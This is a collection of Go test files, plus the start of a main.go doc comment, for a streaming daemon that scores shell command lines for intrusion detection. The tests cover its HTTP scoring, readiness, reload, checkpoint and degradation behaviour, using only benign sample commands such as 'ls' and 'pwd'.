package main

import (
	"bufio"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"clmids/internal/core"
	"clmids/internal/corpus"
	"clmids/internal/serve"
	"clmids/internal/stream"
)

// serveFixture trains one tiny pipeline and an unsupervised PCA scorer
// (fast: no head tuning), shared across the handler tests. The pipeline
// and built scorer are kept so bundle tests can SaveBundle cheaply.
type serveFixture struct {
	svc  *stream.Service
	test *corpus.Dataset
	pl   *core.Pipeline
	bs   *core.BuiltScorer
}

// ready wraps the fixture service in an attached daemon, the state the
// handler serves against after startup completes.
func (f *serveFixture) ready() *serve.Daemon {
	d := serve.NewDaemon("", false)
	d.Attach(f.svc, "shell")
	return d
}

var (
	fixOnce sync.Once
	fix     *serveFixture
	fixErr  error
)

func getFixture(t *testing.T) *serveFixture {
	t.Helper()
	fixOnce.Do(func() {
		ccfg := corpus.DefaultConfig()
		ccfg.TrainLines = 500
		ccfg.TestLines = 200
		train, test, err := corpus.Generate(ccfg)
		if err != nil {
			fixErr = err
			return
		}
		pcfg := core.TinyExperiment().Pipeline
		pcfg.Pretrain.Epochs = 1
		pl, err := core.BuildPipeline(train.Lines(), pcfg)
		if err != nil {
			fixErr = err
			return
		}
		bs, err := core.BuildScorerFull(pl, core.ScorerConfig{Method: "pca"}, train.Lines(), nil)
		if err != nil {
			fixErr = err
			return
		}
		cfg := stream.DefaultConfig()
		cfg.ContextWindow = 3
		// Two shards over scorer replicas: the HTTP tests exercise the
		// sharded routing/scatter path end to end.
		replicas, err := core.ReplicateScorer(bs.Scorer, 2)
		if err != nil {
			fixErr = err
			return
		}
		det, err := stream.NewShardedDetector(replicas, cfg)
		if err != nil {
			fixErr = err
			return
		}
		fix = &serveFixture{
			svc:  stream.NewShardedService(det, stream.ServiceConfig{QueueRequests: 8, BatchEvents: 64}),
			test: test,
			pl:   pl,
			bs:   bs,
		}
	})
	if fixErr != nil {
		t.Fatalf("fixture: %v", fixErr)
	}
	return fix
}

func TestScoreEndpointNDJSON(t *testing.T) {
	f := getFixture(t)
	srv := httptest.NewServer(serve.NewHandler(f.ready(), 32))
	defer srv.Close()

	// Corpus JSONL records work verbatim as events (extra fields ignored).
	var body strings.Builder
	n := 50
	ds := &corpus.Dataset{Samples: f.test.Samples[:n]}
	if err := ds.WriteJSONL(&body); err != nil {
		t.Fatal(err)
	}
	resp, err := http.Post(srv.URL+"/score", "application/x-ndjson", strings.NewReader(body.String()))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("status %d", resp.StatusCode)
	}
	sc := bufio.NewScanner(resp.Body)
	var verdicts []stream.Verdict
	for sc.Scan() {
		var v stream.Verdict
		if err := json.Unmarshal(sc.Bytes(), &v); err != nil {
			t.Fatalf("verdict line %d: %v (%s)", len(verdicts)+1, err, sc.Text())
		}
		verdicts = append(verdicts, v)
	}
	if len(verdicts) != n {
		t.Fatalf("%d verdicts for %d events", len(verdicts), n)
	}
	for i, v := range verdicts {
		s := f.test.Samples[i]
		if v.Line != s.Line || v.User != s.User || v.Time != s.Time {
			t.Fatalf("verdict %d out of order: %+v vs sample %+v", i, v, s)
		}
		if v.SessionLines < 1 {
			t.Fatalf("verdict %d: session lines %d", i, v.SessionLines)
		}
	}
}

// TestScoreEndpointMalformedLineNumber: a malformed NDJSON line yields a
// per-line error record naming its line number — and the stream keeps
// scoring: the well-formed lines before and after it all get verdicts.
func TestScoreEndpointMalformedLineNumber(t *testing.T) {
	f := getFixture(t)
	srv := httptest.NewServer(serve.NewHandler(f.ready(), 32))
	defer srv.Close()

	body := `{"user":"u","time":1,"line":"ls"}` + "\n" +
		`{"user":` + "\n" +
		`{"user":"u","time":2,"line":"pwd"}` + "\n"
	resp, err := http.Post(srv.URL+"/score", "application/x-ndjson", strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("status %d, want 200", resp.StatusCode)
	}
	var verdicts, errRecs int
	scn := bufio.NewScanner(resp.Body)
	for scn.Scan() {
		var rec map[string]any
		if err := json.Unmarshal(scn.Bytes(), &rec); err != nil {
			t.Fatalf("unparseable response line %q: %v", scn.Text(), err)
		}
		if msg, ok := rec["error"].(string); ok {
			errRecs++
			if !strings.Contains(msg, "line 2") {
				t.Fatalf("error %q does not name line 2", msg)
			}
			if ln, ok := rec["line"].(float64); !ok || int(ln) != 2 {
				t.Fatalf("error record line field = %v, want 2", rec["line"])
			}
			continue
		}
		verdicts++
	}
	if verdicts != 2 || errRecs != 1 {
		t.Fatalf("got %d verdicts and %d error records, want 2 and 1", verdicts, errRecs)
	}
}

func TestStatsEndpoint(t *testing.T) {
	f := getFixture(t)
	srv := httptest.NewServer(serve.NewHandler(f.ready(), 32))
	defer srv.Close()

	resp, err := http.Get(srv.URL + "/stats")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var st stream.ServiceStats
	if err := json.NewDecoder(resp.Body).Decode(&st); err != nil {
		t.Fatal(err)
	}
	// Two shards of 8: the aggregate is the sum, the breakdown is per shard
	// with LRU cache counters (the PCA scorer runs on a cached engine).
	if st.QueueCapacity != 16 {
		t.Fatalf("queue capacity %d, want 16", st.QueueCapacity)
	}
	if len(st.Shards) != 2 {
		t.Fatalf("%d shard entries, want 2", len(st.Shards))
	}
	for _, ss := range st.Shards {
		if ss.QueueCapacity != 8 {
			t.Fatalf("shard %d queue capacity %d, want 8", ss.Shard, ss.QueueCapacity)
		}
		if ss.Cache == nil {
			t.Fatalf("shard %d reports no cache stats", ss.Shard)
		}
	}
}

func TestScoreMethodNotAllowed(t *testing.T) {
	f := getFixture(t)
	srv := httptest.NewServer(serve.NewHandler(f.ready(), 32))
	defer srv.Close()
	resp, err := http.Get(srv.URL + "/score")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusMethodNotAllowed {
		t.Fatalf("status %d, want 405", resp.StatusCode)
	}
}

func TestRunRejectsBadFlags(t *testing.T) {
	if err := run([]string{"-aggregation", "bogus"}); err == nil ||
		!strings.Contains(err.Error(), "unknown aggregation") {
		t.Fatalf("bad aggregation: %v", err)
	}
	// A typoed method fails up front, before any model or baseline loads.
	if err := run([]string{"-method", "retrieva1"}); err == nil ||
		!strings.Contains(err.Error(), "unknown method") ||
		!strings.Contains(err.Error(), "classifier") {
		t.Fatalf("bad method not rejected with the valid list: %v", err)
	}
	if err := run([]string{"-model", "/nonexistent", "-addr", "127.0.0.1:0"}); err == nil {
		t.Fatal("missing model accepted")
	}
	if err := run([]string{"-bundle", "/nonexistent", "-addr", "127.0.0.1:0"}); err == nil {
		t.Fatal("missing bundle accepted")
	}
}

// TestReadinessSplit: during the scorer build/load window the daemon is
// live (/healthz 200) but not ready (/readyz, /score, /stats 503), so load
// balancers don't route to a cold replica; attach flips readiness.
func TestReadinessSplit(t *testing.T) {
	f := getFixture(t)
	d := serve.NewDaemon("", false)
	srv := httptest.NewServer(serve.NewHandler(d, 32))
	defer srv.Close()

	get := func(path string) int {
		t.Helper()
		resp, err := http.Get(srv.URL + path)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		return resp.StatusCode
	}
	if got := get("/healthz"); got != http.StatusOK {
		t.Fatalf("cold /healthz %d, want 200", got)
	}
	for _, path := range []string{"/readyz", "/stats"} {
		if got := get(path); got != http.StatusServiceUnavailable {
			t.Fatalf("cold %s %d, want 503", path, got)
		}
	}
	resp, err := http.Post(srv.URL+"/score", "application/x-ndjson",
		strings.NewReader(`{"user":"u","time":1,"line":"ls"}`+"\n"))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusServiceUnavailable {
		t.Fatalf("cold /score %d, want 503", resp.StatusCode)
	}

	d.Attach(f.svc, "shell")
	if got := get("/readyz"); got != http.StatusOK {
		t.Fatalf("ready /readyz %d, want 200", got)
	}
	if got := get("/healthz"); got != http.StatusOK {
		t.Fatalf("ready /healthz %d, want 200", got)
	}
}

// TestReloadEndpoint: POST /reload hot-swaps a bundle into the live
// service and the bundle version propagates to the aggregate stats and to
// every shard's breakdown.
func TestReloadEndpoint(t *testing.T) {
	f := getFixture(t)
	d := f.ready()
	srv := httptest.NewServer(serve.NewHandler(d, 32))
	defer srv.Close()

	// No -bundle configured and no ?bundle param: a 400, not a crash.
	resp, err := http.Post(srv.URL+"/reload", "", nil)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("reload without source: %d, want 400", resp.StatusCode)
	}

	dir := t.TempDir()
	man, err := core.SaveBundle(dir, f.pl, f.bs, "swap-test-v2")
	if err != nil {
		t.Fatal(err)
	}
	resp, err = http.Post(srv.URL+"/reload?bundle="+dir, "", nil)
	if err != nil {
		t.Fatal(err)
	}
	var body map[string]string
	if err := json.NewDecoder(resp.Body).Decode(&body); err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK || body["version"] != man.Version {
		t.Fatalf("reload: status %d body %v, want 200/version %s", resp.StatusCode, body, man.Version)
	}

	resp, err = http.Get(srv.URL + "/stats")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var st stream.ServiceStats
	if err := json.NewDecoder(resp.Body).Decode(&st); err != nil {
		t.Fatal(err)
	}
	if st.ScorerVersion != man.Version {
		t.Fatalf("aggregate scorer version %q, want %q", st.ScorerVersion, man.Version)
	}
	if len(st.Shards) == 0 {
		t.Fatal("no per-shard stats")
	}
	for _, ss := range st.Shards {
		if ss.ScorerVersion != man.Version {
			t.Fatalf("shard %d scorer version %q, want %q", ss.Shard, ss.ScorerVersion, man.Version)
		}
	}

	// Scoring still flows after the swap.
	resp, err = http.Post(srv.URL+"/score", "application/x-ndjson",
		strings.NewReader(`{"user":"reload-u","time":99,"line":"ls -la"}`+"\n"))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("post-reload /score %d, want 200", resp.StatusCode)
	}

	// A broken bundle path fails the reload and keeps the old scorer.
	resp, err = http.Post(srv.URL+"/reload?bundle=/nonexistent", "", nil)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusInternalServerError {
		t.Fatalf("broken reload: %d, want 500", resp.StatusCode)
	}
	if got := f.svc.ScorerVersion(); got != man.Version {
		t.Fatalf("failed reload changed version to %q", got)
	}
}

// TestScoreAfterClose: a drained service refuses new work with a 503
// rather than hanging — run last (the fixture service is shared).
func TestZZScoreAfterClose(t *testing.T) {
	f := getFixture(t)
	f.svc.Close()
	srv := httptest.NewServer(serve.NewHandler(f.ready(), 32))
	defer srv.Close()
	resp, err := http.Post(srv.URL+"/score", "application/x-ndjson",
		strings.NewReader(`{"user":"u","time":1,"line":"ls"}`+"\n"))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusServiceUnavailable {
		t.Fatalf("status %d, want 503", resp.StatusCode)
	}
}
