package main

// Daemon-level resilience drills: damaged-artifact reloads under live
// traffic, the checkpoint kill-and-restart drill through the same
// serve.WriteCheckpointFile the daemon runs, and /readyz surfacing degraded
// shards. These ride the shared training fixture but build their own
// services — the fixture's shared service is mutated by other tests.

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"clmids/internal/core"
	"clmids/internal/faults"
	"clmids/internal/serve"
	"clmids/internal/stream"
	"clmids/internal/tuning"
)

// fixtureService builds a dedicated two-shard service over fresh replicas
// of the fixture scorer, optionally wrapping each replica through wrap.
func fixtureService(t *testing.T, f *serveFixture, scfg stream.ServiceConfig, wrap func(tuning.Scorer) tuning.Scorer) *stream.Service {
	t.Helper()
	cfg := stream.DefaultConfig()
	cfg.ContextWindow = 3
	replicas, err := core.ReplicateScorer(f.bs.Scorer, 2)
	if err != nil {
		t.Fatal(err)
	}
	if wrap != nil {
		for i, r := range replicas {
			replicas[i] = wrap(r)
		}
	}
	det, err := stream.NewShardedDetector(replicas, cfg)
	if err != nil {
		t.Fatal(err)
	}
	return stream.NewShardedService(det, scfg)
}

// TestReloadDamagedBundleUnderLoad: every way a bundle artifact can arrive
// damaged — any section flipped or torn, the manifest mangled — must fail
// the /reload with a 500 and an explanation, while the old scorer keeps
// serving the concurrent /score traffic and /readyz stays ready throughout.
func TestReloadDamagedBundleUnderLoad(t *testing.T) {
	f := getFixture(t)
	svc := fixtureService(t, f, stream.ServiceConfig{QueueRequests: 16, BatchEvents: 64}, nil)
	defer svc.Close()
	d := serve.NewDaemon("", false)
	d.Attach(svc, "shell")
	srv := httptest.NewServer(serve.NewHandler(d, 32))
	defer srv.Close()

	good := t.TempDir()
	man, err := core.SaveBundle(good, f.pl, f.bs, "resilience-v1")
	if err != nil {
		t.Fatal(err)
	}
	resp, err := http.Post(srv.URL+"/reload?bundle="+good, "", nil)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("priming reload: %d", resp.StatusCode)
	}

	// Continuous scoring load for the whole drill.
	stop := make(chan struct{})
	var scored, loadErrs atomic.Int64
	var wg sync.WaitGroup
	for p := 0; p < 3; p++ {
		wg.Add(1)
		go func(p int) {
			defer wg.Done()
			for i := 0; ; i++ {
				select {
				case <-stop:
					return
				default:
				}
				body := fmt.Sprintf(`{"user":"load-%d","time":%d,"line":"ls -la /tmp"}`+"\n", p, i)
				resp, err := http.Post(srv.URL+"/score", "application/x-ndjson", strings.NewReader(body))
				if err != nil {
					loadErrs.Add(1)
					continue
				}
				io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
				if resp.StatusCode != http.StatusOK {
					loadErrs.Add(1)
				} else {
					scored.Add(1)
				}
			}
		}(p)
	}

	damages := []struct {
		name  string
		build func(dst string) error
	}{}
	for _, sec := range core.SectionFiles(man) {
		sec := sec
		damages = append(damages,
			struct {
				name  string
				build func(dst string) error
			}{"corrupt-" + sec, func(dst string) error { return faults.CorruptBundleCopy(good, dst, sec) }},
			struct {
				name  string
				build func(dst string) error
			}{"truncate-" + sec, func(dst string) error { return faults.TruncateBundleCopy(good, dst, sec) }},
		)
	}
	damages = append(damages, struct {
		name  string
		build func(dst string) error
	}{"mangled-manifest", func(dst string) error {
		if err := faults.CorruptBundleCopy(good, dst, core.SectionFiles(man)[0]); err != nil {
			return err
		}
		return os.WriteFile(filepath.Join(dst, core.ManifestFile), []byte("{torn"), 0o644)
	}})

	for _, dmg := range damages {
		dst := filepath.Join(t.TempDir(), dmg.name)
		if err := dmg.build(dst); err != nil {
			t.Fatal(err)
		}
		resp, err := http.Post(srv.URL+"/reload?bundle="+dst, "", nil)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusInternalServerError {
			t.Fatalf("%s: reload status %d (%s), want 500", dmg.name, resp.StatusCode, body)
		}
		if len(body) == 0 {
			t.Fatalf("%s: empty reload error body", dmg.name)
		}
		if got := svc.ScorerVersion(); got != man.Version {
			t.Fatalf("%s: damaged reload changed scorer version to %q", dmg.name, got)
		}
		rz, err := http.Get(srv.URL + "/readyz")
		if err != nil {
			t.Fatal(err)
		}
		rz.Body.Close()
		if rz.StatusCode != http.StatusOK {
			t.Fatalf("%s: /readyz %d after failed reload, want 200", dmg.name, rz.StatusCode)
		}
	}

	close(stop)
	wg.Wait()
	if loadErrs.Load() > 0 {
		t.Fatalf("%d /score failures during damaged reloads (%d succeeded)", loadErrs.Load(), scored.Load())
	}
	if scored.Load() == 0 {
		t.Fatal("load generator never scored; drill proves nothing")
	}
}

// TestCheckpointKillRestartService is the kill-and-restart drill at the
// daemon level: score traffic, checkpoint through serve.WriteCheckpointFile (the
// daemon's own atomic snapshot path), tear the service down, restore a new
// one from the file — and verify its subsequent verdicts match an
// uninterrupted run byte for byte.
func TestCheckpointKillRestartService(t *testing.T) {
	f := getFixture(t)
	scfg := stream.ServiceConfig{QueueRequests: 8, BatchEvents: 64}
	evts := make([]stream.Event, 0, 120)
	for i := 0; i < 120; i++ {
		line := f.test.Samples[i%len(f.test.Samples)].Line
		evts = append(evts, stream.Event{
			User: fmt.Sprintf("ckpt-%d", i%7), Time: int64(100 + i), Line: line,
		})
	}

	ref := fixtureService(t, f, scfg, nil)
	defer ref.Close()
	if _, err := ref.Submit(evts[:80]); err != nil {
		t.Fatal(err)
	}

	victim := fixtureService(t, f, scfg, nil)
	if _, err := victim.Submit(evts[:80]); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "sessions.ckpt")
	if err := serve.WriteCheckpointFile(victim, path); err != nil {
		t.Fatal(err)
	}
	victim.Close() // the "crash" (graceful here; the checkpoint already exists)

	restarted := fixtureService(t, f, scfg, nil)
	defer restarted.Close()
	file, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := restarted.RestoreSessions(file); err != nil {
		t.Fatal(err)
	}
	file.Close()

	want, err := ref.Submit(evts[80:])
	if err != nil {
		t.Fatal(err)
	}
	got, err := restarted.Submit(evts[80:])
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(got, want) {
		t.Fatal("restarted service diverged from uninterrupted run")
	}
}

// TestReadyzReportsDegraded: a shard pushed down the precision ladder shows
// up in /readyz (still 200 — degraded capacity beats none) and clears after
// recovery. Uses the real fixture scorer: the downshift exercises
// tuning.AtPrecision against an actual engine-backed scorer.
func TestReadyzReportsDegraded(t *testing.T) {
	f := getFixture(t)
	gate := &faults.Gate{}
	scfg := stream.ServiceConfig{
		QueueRequests: 2, BatchEvents: 8,
		Overload:     stream.OverloadDegrade,
		DegradeAfter: 50 * time.Millisecond,
		RecoverAfter: 50 * time.Millisecond,
		OverloadTick: time.Hour, // tests drive PollOverload directly
	}
	svc := fixtureService(t, f, scfg, gate.Wrap)
	defer svc.Close()
	d := serve.NewDaemon("", false)
	d.Attach(svc, "shell")
	srv := httptest.NewServer(serve.NewHandler(d, 32))
	defer srv.Close()

	readyz := func() (int, string) {
		t.Helper()
		resp, err := http.Get(srv.URL + "/readyz")
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		return resp.StatusCode, string(body)
	}
	if code, body := readyz(); code != http.StatusOK || strings.Contains(body, "degraded") {
		t.Fatalf("healthy /readyz: %d %q", code, body)
	}

	// Wedge scoring and fill the queues past high water.
	gate.Hold()
	var wg sync.WaitGroup
	for i := 0; i < 6; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			svc.Submit([]stream.Event{{User: fmt.Sprintf("hot-%d", i), Time: int64(i), Line: "ls"}})
		}(i)
	}
	deadline := time.Now().Add(5 * time.Second)
	for svc.Stats().QueueDepth < 2 {
		if time.Now().After(deadline) {
			t.Fatal("queues never saturated")
		}
		time.Sleep(time.Millisecond)
	}
	t0 := time.Now()
	svc.PollOverload(t0)
	done := make(chan struct{})
	go func() {
		defer close(done)
		svc.PollOverload(t0.Add(scfg.DegradeAfter)) // blocks behind the wedged batch
	}()
	time.Sleep(10 * time.Millisecond)
	gate.Release()
	<-done
	wg.Wait()

	if n := svc.DegradedShards(); n == 0 {
		t.Fatal("sustained saturation did not degrade any shard")
	}
	if code, body := readyz(); code != http.StatusOK || !strings.Contains(body, "degraded=") {
		t.Fatalf("degraded /readyz: %d %q, want 200 with degraded count", code, body)
	}

	// Sustained calm recovers every shard to native precision.
	t1 := time.Now()
	svc.PollOverload(t1)
	svc.PollOverload(t1.Add(scfg.RecoverAfter))
	if n := svc.DegradedShards(); n != 0 {
		t.Fatalf("%d shards still degraded after recovery window", n)
	}
	if _, body := readyz(); strings.Contains(body, "degraded") {
		t.Fatalf("recovered /readyz still reports degradation: %q", body)
	}

	// And the degraded episode did not wedge scoring.
	if _, err := svc.Submit([]stream.Event{{User: "post", Time: 999, Line: "pwd"}}); err != nil {
		t.Fatalf("post-recovery submit: %v", err)
	}
}
