package main

import (
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"clmids/internal/core"
	"clmids/internal/serve"
	"clmids/internal/stream"
)

// TestReloadModalityMismatch: a bundle trained for another modality never
// swaps in — /reload answers 409 Conflict with the mismatch spelled out,
// and the old scorer keeps serving untouched.
func TestReloadModalityMismatch(t *testing.T) {
	f := getFixture(t)
	// A private service (not the shared fixture one, whose lifecycle other
	// tests own): the scorer replica shares the fixture's frozen weights.
	svc := newModalityService(t, f)
	defer svc.Close()
	d := serve.NewDaemon("", false)
	// The daemon serves flows; the fixture bundle below is shell.
	d.Attach(svc, "flows")
	srv := httptest.NewServer(serve.NewHandler(d, 32))
	defer srv.Close()

	dir := t.TempDir()
	if _, err := core.SaveBundle(dir, f.pl, f.bs, "shell-into-flows"); err != nil {
		t.Fatal(err)
	}
	before := svc.ScorerVersion()

	resp, err := http.Post(srv.URL+"/reload?bundle="+dir, "", nil)
	if err != nil {
		t.Fatal(err)
	}
	body, err := io.ReadAll(resp.Body)
	resp.Body.Close()
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusConflict {
		t.Fatalf("cross-modality reload: status %d body %q, want 409", resp.StatusCode, body)
	}
	if !strings.Contains(string(body), "modality") {
		t.Fatalf("409 body does not name the modality mismatch: %q", body)
	}
	if got := svc.ScorerVersion(); got != before {
		t.Fatalf("rejected reload changed scorer version %q -> %q", before, got)
	}

	// Scoring still flows on the old scorer.
	resp, err = http.Post(srv.URL+"/score", "application/x-ndjson",
		strings.NewReader(`{"user":"mm-u","time":7,"line":"ls"}`+"\n"))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("post-rejection /score %d, want 200", resp.StatusCode)
	}

	// The daemon-level reload surfaces the typed error (SIGHUP path).
	if _, err := d.Reload(dir); !errors.Is(err, core.ErrModalityMismatch) {
		t.Fatalf("daemon reload error %v, want ErrModalityMismatch", err)
	}
}

// TestModalitySurfaced: the active modality shows up on /readyz (the
// probe line) and /stats (the JSON field), so operators can tell what a
// replica serves without reading its flags.
func TestModalitySurfaced(t *testing.T) {
	f := getFixture(t)
	svc := newModalityService(t, f)
	defer svc.Close()
	svc.SetModality("shell")
	d := serve.NewDaemon("", false)
	d.Attach(svc, "shell")
	srv := httptest.NewServer(serve.NewHandler(d, 32))
	defer srv.Close()

	resp, err := http.Get(srv.URL + "/readyz")
	if err != nil {
		t.Fatal(err)
	}
	line, err := io.ReadAll(resp.Body)
	resp.Body.Close()
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusOK || !strings.Contains(string(line), "modality=shell") {
		t.Fatalf("/readyz %d %q, want 200 with modality=shell", resp.StatusCode, line)
	}

	resp, err = http.Get(srv.URL + "/stats")
	if err != nil {
		t.Fatal(err)
	}
	var st stream.ServiceStats
	if err := json.NewDecoder(resp.Body).Decode(&st); err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if st.Modality != "shell" {
		t.Fatalf("/stats modality %q, want shell", st.Modality)
	}
}

// newModalityService builds a fresh single-shard service over a replica of
// the fixture scorer, so these tests never share lifecycle with the
// fixture service (TestZZScoreAfterClose closes that one).
func newModalityService(t *testing.T, f *serveFixture) *stream.Service {
	t.Helper()
	replicas, err := core.ReplicateScorer(f.bs.Scorer, 1)
	if err != nil {
		t.Fatal(err)
	}
	det, err := stream.NewShardedDetector(replicas, stream.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	return stream.NewShardedService(det, stream.ServiceConfig{QueueRequests: 4, BatchEvents: 32})
}

// TestServeRejectsUnknownModality: a typoed -modality fails fast with the
// registered list, the same UX as a typoed -method.
func TestServeRejectsUnknownModality(t *testing.T) {
	err := run([]string{"-modality", "syslog"})
	if err == nil || !strings.Contains(err.Error(), "powershell") ||
		!strings.Contains(err.Error(), "flows") {
		t.Fatalf("unknown modality error does not list registered names: %v", err)
	}
}
