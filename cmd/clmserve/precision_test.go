package main

import (
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"clmids/internal/core"
	"clmids/internal/model"
	"clmids/internal/serve"
	"clmids/internal/stream"
	"clmids/internal/tuning"
)

// TestRunRejectsBadPrecision: a typoed -precision fails in milliseconds,
// before any bundle or model loads.
func TestRunRejectsBadPrecision(t *testing.T) {
	err := run([]string{"-precision", "fp16", "-bundle", "/nonexistent", "-addr", "127.0.0.1:0"})
	if err == nil || !strings.Contains(err.Error(), "unknown precision") {
		t.Fatalf("bad precision: %v", err)
	}
}

// TestRunRejectsBadPprofAddr: an unusable -pprof address fails startup
// before the (potentially minutes-long) scorer load.
func TestRunRejectsBadPprofAddr(t *testing.T) {
	err := run([]string{"-pprof", "not-an-addr", "-bundle", "/nonexistent", "-addr", "127.0.0.1:0"})
	if err == nil || !strings.Contains(err.Error(), "pprof listener") {
		t.Fatalf("bad pprof addr: %v", err)
	}
}

// TestPprofMuxIsolation: the net/http/pprof import registers its routes on
// the DefaultServeMux (what the -pprof debug listener serves), while the
// scoring handler's mux stays clean — profiling never rides the liveness/
// readiness/scoring surface.
func TestPprofMuxIsolation(t *testing.T) {
	debug := httptest.NewServer(http.DefaultServeMux)
	defer debug.Close()
	resp, err := http.Get(debug.URL + "/debug/pprof/")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("debug mux /debug/pprof/ = %d, want 200", resp.StatusCode)
	}

	serving := httptest.NewServer(serve.NewHandler(serve.NewDaemon("", false), 32))
	defer serving.Close()
	resp, err = http.Get(serving.URL + "/debug/pprof/")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusNotFound {
		t.Fatalf("serving mux leaked /debug/pprof/ (%d), want 404", resp.StatusCode)
	}
	// Liveness still answers on the serving mux.
	resp, err = http.Get(serving.URL + "/healthz")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("/healthz = %d with pprof enabled elsewhere", resp.StatusCode)
	}
}

// TestReloadSwapsPrecision: hot-reloading an int8 bundle over a float64
// one swaps the serving precision shard-wide — the zero-downtime ladder
// climb the bundle layer promises.
func TestReloadSwapsPrecision(t *testing.T) {
	f := getFixture(t)
	// Own service (the shared fixture one is closed by the drain test):
	// fresh replicas over the same frozen scorer, two shards.
	replicas, err := core.ReplicateScorer(f.bs.Scorer, 2)
	if err != nil {
		t.Fatal(err)
	}
	det, err := stream.NewShardedDetector(replicas, stream.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	svc := stream.NewShardedService(det, stream.ServiceConfig{QueueRequests: 8, BatchEvents: 64})
	defer svc.Close()
	d := serve.NewDaemon("", false)
	d.Attach(svc, "shell")
	srv := httptest.NewServer(serve.NewHandler(d, 32))
	defer srv.Close()

	dir := t.TempDir()
	f.bs.Config.Precision = model.PrecisionInt8
	man, err := core.SaveBundle(dir, f.pl, f.bs, "int8-swap-v1")
	f.bs.Config.Precision = ""
	if err != nil {
		t.Fatal(err)
	}
	if man.Precision != string(model.PrecisionInt8) {
		t.Fatalf("manifest precision %q", man.Precision)
	}
	resp, err := http.Post(srv.URL+"/reload?bundle="+dir, "", nil)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("reload int8 bundle: %d", resp.StatusCode)
	}
	if got := svc.ScorerVersion(); got != man.Version {
		t.Fatalf("version %q after int8 reload, want %q", got, man.Version)
	}

	// Scoring flows at the new rung.
	resp, err = http.Post(srv.URL+"/score", "application/x-ndjson",
		strings.NewReader(`{"user":"i8","time":5,"line":"ls -la /srv"}`+"\n"))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("post-reload /score %d", resp.StatusCode)
	}

	// The loaded bundle really serves int8 (spot-check via a fresh load).
	lb, err := core.LoadScorerBundle(dir)
	if err != nil {
		t.Fatal(err)
	}
	if p, _ := tuning.ScorerPrecision(lb.Scorer); p != model.PrecisionInt8 {
		t.Fatalf("int8 bundle loads at %q", p)
	}
}
