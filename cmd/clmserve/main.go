// Command clmserve is the streaming detection daemon: it serves
// NDJSON-over-HTTP scoring with session-aware aggregation (see
// internal/stream) over one of the paper's detection methods, obtained one
// of two ways:
//
//   - -bundle dir: cold start from a versioned scorer bundle (see clmtrain
//     -bundle and internal/core). No baseline corpus is read and no tuning
//     runs at startup — the bundle carries the backbone, tokenizer, and
//     method head, and the daemon is ready as soon as they deserialize.
//   - -model + -baseline: legacy warm start — load a trained pipeline,
//     build the method scorer over a labeled baseline log at startup
//     (minutes for the tuned methods).
//
// Usage:
//
//	clmserve -bundle bundle/ -addr :8080 \
//	         -context 3 -aggregation decay -session-threshold 0.8
//
// Endpoints:
//
//	POST /score   body: NDJSON events {"user":..,"time":..,"line":..}
//	              (corpus JSONL records work verbatim; extra fields are
//	              ignored, a missing time defaults to arrival time).
//	              response: NDJSON verdicts, one per event, in order.
//	              503 until the scorer is ready.
//	GET  /stats   JSON snapshot of detector + queue counters, aggregated
//	              and per shard (queue depth, LRU hit rate, active scorer
//	              bundle version; with -cascade, the per-rung traffic
//	              split: cleared / triaged / escalated).
//	GET  /healthz liveness: 200 from the moment the socket is open, even
//	              during the potentially minutes-long scorer build/load.
//	GET  /readyz  readiness: 503 until the scorer is serving — the probe
//	              load balancers should route on.
